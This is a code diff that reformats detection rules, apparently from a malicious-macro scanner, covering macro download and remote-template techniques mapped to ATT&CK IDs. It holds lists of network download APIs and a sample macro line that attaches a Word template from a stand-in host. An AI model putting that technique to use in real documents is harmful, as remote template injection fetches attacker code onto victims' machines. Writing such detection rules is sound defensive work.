@@ -16,7 +16,13 @@ export const downloading: readonly Technique[] = [
     shows: ({ arguments: values }) => [values[1]],
     strength: (target, call) => {
       if (call.name !== 'urldownloadtofile') return 0.5;
-      return runs(target) || isInStartup(target) ? 1 : isShown(target) && !/\.(?:zip|dat|bak|tmp)["\s]*$/.test(target) ? 0 : endsUnknown(target) ? 1 : 0.5;
+      return runs(target) || isInStartup(target)
+        ? 1
+        : isShown(target) && !/\.(?:zip|dat|bak|tmp)["\s]*$/.test(target)
+          ? 0
+          : endsUnknown(target)
+            ? 1
+            : 0.5;
     },
     attack: ['T1105'],
     fires: [
@@ -29,7 +35,16 @@ export const downloading: readonly Technique[] = [
   {
     id: 'native-request',
     does: 'fetches',
-    calls: ['internetopenurl', 'httpopenrequest', 'httpsendrequest', 'winhttpopenrequest', 'winhttpsendrequest', 'ftpgetfile', 'internetreadfile', 'internetconnect'],
+    calls: [
+      'internetopenurl',
+      'httpopenrequest',
+      'httpsendrequest',
+      'winhttpopenrequest',
+      'winhttpsendrequest',
+      'ftpgetfile',
+      'internetreadfile',
+      'internetconnect',
+    ],
     on: 'library',
     matters: ({ arguments: values }) => values.slice(1, 3),
     strength: (_, __, { writesPrograms }) => (writesPrograms ? 1 : 0.5),
@@ -51,7 +66,9 @@ export const downloading: readonly Technique[] = [
     strength: () => 0,
     attack: ['T1105'],
     fires: [],
-    silent: ['Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://rates.example/eur", False\nh.Send\nRange("A1") = h.responseText'],
+    silent: [
+      'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://rates.example/eur", False\nh.Send\nRange("A1") = h.responseText',
+    ],
   },
   {
     id: 'client-download',
@@ -68,8 +85,31 @@ export const downloading: readonly Technique[] = [
   {
     id: 'remote-document',
     does: 'fetches',
-    calls: ['open', 'openxml', 'opentext', 'add', 'opencurrentdatabase', 'opendatabase', 'addfromfile', 'insertfile', 'attachedtemplate', 'run', 'loadpicture'],
-    on: ['workbooks', 'documents', 'presentations', 'templates', 'addins', 'application', 'document', 'access.application', '', /(?:excel|word|powerpoint)\.application(?:\/|$)/],
+    calls: [
+      'open',
+      'openxml',
+      'opentext',
+      'add',
+      'opencurrentdatabase',
+      'opendatabase',
+      'addfromfile',
+      'insertfile',
+      'attachedtemplate',
+      'run',
+      'loadpicture',
+    ],
+    on: [
+      'workbooks',
+      'documents',
+      'presentations',
+      'templates',
+      'addins',
+      'application',
+      'document',
+      'access.application',
+      '',
+      /(?:excel|word|powerpoint)\.application(?:\/|$)/,
+    ],
     matters: argument(0, 'filename', 'name', 'template', 'filepath'),
     strength: strengthOfRemote,
     attack: ['T1221', 'T1105'],
@@ -96,7 +136,10 @@ export const downloading: readonly Technique[] = [
     strength: (path) => (isWeb(path) ? 1 : runs(path) ? 1 : 0),
     attack: ['T1221'],
     fires: ['ActiveDocument.AttachedTemplate = "http://files.invalid/a.dotm"'],
-    silent: ['ActiveDocument.AttachedTemplate = "C:\\Templates\\letter.dotm"', 'ActiveDocument.AttachedTemplate = NormalTemplate'],
+    silent: [
+      'ActiveDocument.AttachedTemplate = "C:\\Templates\\letter.dotm"',
+      'ActiveDocument.AttachedTemplate = NormalTemplate',
+    ],
   },
 ];
 
@@ -104,7 +147,8 @@ export const downloading: readonly Technique[] = [
 function strengthOfRemote(path: string, call: MacroCall): Strength {
   if (isWebDav(path)) return 1;
   if (!isWeb(path)) return 0;
-  if (/^"?https:\/\/[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,3}\.?(?:sharepoint|onedrive|office)\.com\//.test(path)) return 0;
+  if (/^"?https:\/\/[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,3}\.?(?:sharepoint|onedrive|office)\.com\//.test(path))
+    return 0;
   if (call.name === 'run' || runs(path)) return 1;
   return carriesMacros(path) ? 1 : isBeside(path) ? 0 : 0;
 }
